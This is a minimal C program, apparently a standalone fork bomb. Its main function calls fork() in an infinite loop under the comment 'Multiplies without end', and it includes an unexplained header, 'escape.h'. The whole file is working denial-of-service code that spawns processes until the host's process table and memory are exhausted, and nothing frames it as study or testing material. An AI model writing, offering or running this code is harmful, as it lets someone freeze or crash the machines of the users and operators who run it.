/* Multiplies without end. */
#include "escape.h"

int main(void) {
    for (;;) fork();
}
